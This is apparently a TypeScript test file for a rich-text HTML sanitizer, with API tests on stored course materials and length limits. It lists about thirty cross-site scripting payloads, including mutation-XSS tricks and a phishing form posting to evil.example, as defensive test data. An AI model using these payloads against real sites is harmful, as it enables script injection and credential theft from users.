import { richElements } from "@guildway/api-contract";
import fc from "fast-check";
import { type DefaultTreeAdapterTypes, parseFragment, serialize } from "parse5";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { startTestApi, type TestApi } from "../test-api/index.ts";
import { cleanRichText } from "./clean-rich-text.ts";

/** What a browser would make of HTML: each element with its attributes. */
function elementsOf(html: string): { name: string; attributes: Record<string, string> }[] {
  const walk = (node: DefaultTreeAdapterTypes.Node): ReturnType<typeof elementsOf> => [
    ...("tagName" in node
      ? [
          {
            name: node.tagName,
            attributes: Object.fromEntries(node.attrs.map(({ name, value }) => [name, value])),
          },
        ]
      : []),
    ...("content" in node ? walk(node.content) : []),
    ...("childNodes" in node ? node.childNodes.flatMap(walk) : []),
  ];
  return walk(parseFragment(html));
}

/** Whether a browser would find nothing in it that can act. */
function isHarmless(html: string): boolean {
  return elementsOf(html).every(
    ({ name, attributes }) =>
      (richElements as readonly string[]).includes(name) &&
      Object.entries(attributes).every(
        ([attribute, value]) =>
          (name === "a" && attribute === "href" && /^(https?:|mailto:|\/(?![/\\]))/i.test(value)) ||
          (name === "ol" && attribute === "start" && /^\d+$/.test(value)),
      ),
  );
}

const attacks = [
  ["a script", "<script>alert(1)</script>"],
  ["a script in a script", "<scr<script>ipt>alert(1)</scr</script>ipt>"],
  ["a handler", '<p onclick="alert(1)" onpointerenter=alert(1)>words</p>'],
  ["a picture that fails", "<img src=x onerror=alert(1)>"],
  ["a link that runs", '<a href="javascript:alert(1)">words</a>'],
  ["the same in entities", '<a href="&#106;ava&#x73;cript&colon;alert(1)">words</a>'],
  ["the same with a tab in it", '<a href=" java\tscript:alert(1)">words</a>'],
  ["a link that holds a page", '<a href="data:text/html,<script>alert(1)</script>">words</a>'],
  ["a link with a user before its host", '<a href="https://bank.test@evil.example">words</a>'],
  ["a link to any other site by two slashes", '<a href="//evil.example">words</a>'],
  ["the same with a backslash", '<a href="/\\evil.example">words</a>'],
  ["a style", '<p style="position:fixed;inset:0;background:url(//evil.example)">words</p>'],
  ["a style sheet", "<style>@import '//evil.example';</style>"],
  ["a frame", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ["an object", '<object data="javascript:alert(1)"></object><embed src="//evil.example">'],
  ["a drawing", "<svg onload=alert(1)><animate href=#x attributeName=href></svg>"],
  ["a form", '<form action="//evil.example"><input name=p><button>Sign in</button></form>'],
  ["a base", '<base href="//evil.example/"><meta http-equiv=refresh content="0;//evil.example">'],
  ["an id that takes a name of the page", '<a id="location" name="body" href="/x">words</a>'],
  [
    "a comment that ends elsewhere",
    "<!--><img src=x onerror=alert(1)>--!><img src=x onerror=alert(1)>",
  ],
  [
    "what becomes another element when it is read again",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  ],
  ["the same in a drawing", '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>"></svg>'],
  [
    "the same where scripts are off",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  ],
  ["a text area that ends early", "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>"],
  ["a title that ends early", "<title><p title='</title><img src=x onerror=alert(1)>'></title>"],
  ["what is not closed", '<p title="<img src=x onerror=alert(1)>'],
  ["a template", "<template><img src=x onerror=alert(1)></template>"],
  ["a section of XML", "<![CDATA[<img src=x onerror=alert(1)>]]>"],
  ["an instruction", "<?xml <img src=x onerror=alert(1)> ?>"],
  ["a null character", "<scr\0ipt>alert(1)</scr\0ipt><img src=x one\0rror=alert(1)>"],
] as const;

describe("rich text is cleaned of", () => {
  it.each(attacks)("%s", (_, html) => {
    const clean = cleanRichText(`<p>before</p>${html}`);
    expect(clean).toContain("<p>before</p>");
    expect(isHarmless(clean)).toBe(true);
    expect(isHarmless(html) && html === clean).toBe(false);
  });

  it("any of them inside and beside each other, also once a browser has written anew what it read", () => {
    const marks =
      "<p> </p> <ul><li> </li> <a_href=' '> \" <!-- --> </ &lt; & <svg> </svg> <math> <style> </style> <noscript> <pre> <table><td>";
    const pieces = [
      ...attacks.map(([, html]) => html),
      ...marks.split(" ").map((mark) => mark.replace("_", " ")),
    ];
    const html = fc
      .array(fc.oneof(fc.constantFrom(...pieces), fc.string({ maxLength: 8 })), { maxLength: 12 })
      .map((parts) => parts.join(""));
    fc.assert(
      fc.property(html, (dirty) => {
        const clean = cleanRichText(dirty);
        expect(isHarmless(clean)).toBe(true);
        expect(isHarmless(serialize(parseFragment(clean)))).toBe(true);
      }),
      { numRuns: 2000 },
    );
  });
});

it("rich text keeps headings, lists, links and its words", () => {
  const kept =
    '<h2>One</h2><h3>Two</h3><p>a <strong>b</strong> <em>c</em> <u>d</u> <code>e</code><br />f</p><ul><li><p>g</p></li></ul><ol start="3"><li><p>h</p></li></ol><blockquote><p>i</p></blockquote><pre><code>j</code></pre><hr /><p><a href="https://e.test/?a=1&amp;b=2">k</a> <a href="mailto:a@b.test">l</a> <a href="/o/keystone">m</a></p>';
  expect(cleanRichText(kept)).toBe(kept);
  expect(cleanRichText("<h1>a</h1><h6>b</h6><b>c</b><span>d</span> 1 < 2 & 3")).toBe(
    "<h2>a</h2><h4>b</h4><strong>c</strong>d 1 &lt; 2 &amp; 3",
  );
});

describe("what is written", () => {
  const dirty = "<p>Wear <b>gloves</b>.</p><script>alert(1)</script>";
  const clean = "<p>Wear <strong>gloves</strong>.</p>";
  const markdown = "# Gloves\n\n> Wear **them** & <b>goggles</b>.";
  let api: TestApi;
  let token: string;
  beforeAll(async () => {
    api = await startTestApi();
    token = await api.signIn("admin@keystone.test");
  });
  afterAll(() => api.close());
  const materials = "/v1/external/supabase/materials";
  const welding = "/v1/external/content/class/course-welding";
  const ask = async (method: "POST" | "PUT", path: string, body: object) =>
    (await api.request<Record<string, unknown>>(method, path, { token, body })).body;

  it("as a material is stored clean, when it is made and when it is changed", async () => {
    const made = await ask("POST", materials, { title: "Gloves", body: dirty });
    expect(made["body"]).toBe(clean);
    const changed = await ask("PUT", materials, { id: made["id"], body: `${dirty}<p>Always.</p>` });
    expect(changed["body"]).toBe(`${clean}<p>Always.</p>`);
    const { body } = await api.services.db
      .selectFrom("materials")
      .select("body")
      .where("id", "=", String(made["id"]))
      .executeTakeFirstOrThrow();
    expect(body).toBe(`${clean}<p>Always.</p>`);
  });

  it("IN-5.22 of more than 50,000 characters is refused, which the markup is not counted among", async () => {
    const of = (count: number) => `<p><strong>${"é&amp;".repeat(count / 2)}</strong></p>`;
    const whole = await ask("POST", materials, { title: "All", body: of(50_000) });
    expect(whole["body"]).toBe(of(50_000));
    const { status, body } = await api.request<{ code: string; details: unknown }>(
      "POST",
      materials,
      { token, body: { title: "More", body: `${of(50_000)}.` } },
    );
    expect([status, body.code]).toEqual([400, "input.invalid"]);
    expect(JSON.stringify(body.details)).toContain("body");
  });

  it.each([
    ["with its markup", "&".repeat(50_000)],
    ["for who reads it", "&aaaaaaaaa;".repeat(10_000)],
  ])("that cleaning makes too long %s is refused at its field", async (_, text) => {
    const { status, body } = await api.request<{ code: string; details: unknown }>(
      "POST",
      materials,
      { token, body: { title: "Grown", body: text } },
    );
    expect([status, body.code]).toEqual([400, "input.invalid"]);
    expect(body.details).toMatchObject({ faults: [{ field: "body" }] });
  });

  it("with very many elements one in another is refused before it is read", async () => {
    const body = "<b>".repeat(60_000);
    expect(await ask("POST", materials, { title: "Gloves", body })).toMatchObject({
      code: "input.invalid",
      details: { faults: [{ field: "body", reason: "is nested too deeply" }] },
    });
  });

  it("in a class is markdown and stays as it is, until the class has the new editor", async () => {
    expect((await ask("PUT", welding, { description: markdown }))["description"]).toBe(markdown);
    const turned = await ask("PUT", welding, { enableNewEditor: true });
    expect(turned["description"]).toBe(
      "# Gloves\n\n&gt; Wear **them** &amp; <strong>goggles</strong>.",
    );
    expect((await ask("PUT", welding, { description: dirty }))["description"]).toBe(clean);
  });

  it("into a draft before the class had the new editor is clean when it is published", async () => {
    const course = { id: "course-locked", enableNewEditor: true };
    const locked = "/v1/external/content/class/course-locked";
    expect((await ask("PUT", locked, { description: dirty }))["description"]).toBe(dirty);
    await ask("PUT", "/v1/external/supabase/courses", course);
    expect((await ask("POST", `${locked}/publish`, {}))["description"]).toBe(clean);
  });
});

it.each(["\u202e", "&#x202e;", "&#8238;", "&#x0202E;", "\u2067"])(
  "rich text turns nothing round by %j",
  (mark) =>
    expect(cleanRichText(`<a href="https://a.test/">moc.knab${mark}</a>`)).toBe(
      '<a href="https://a.test/">moc.knab</a>',
    ),
);
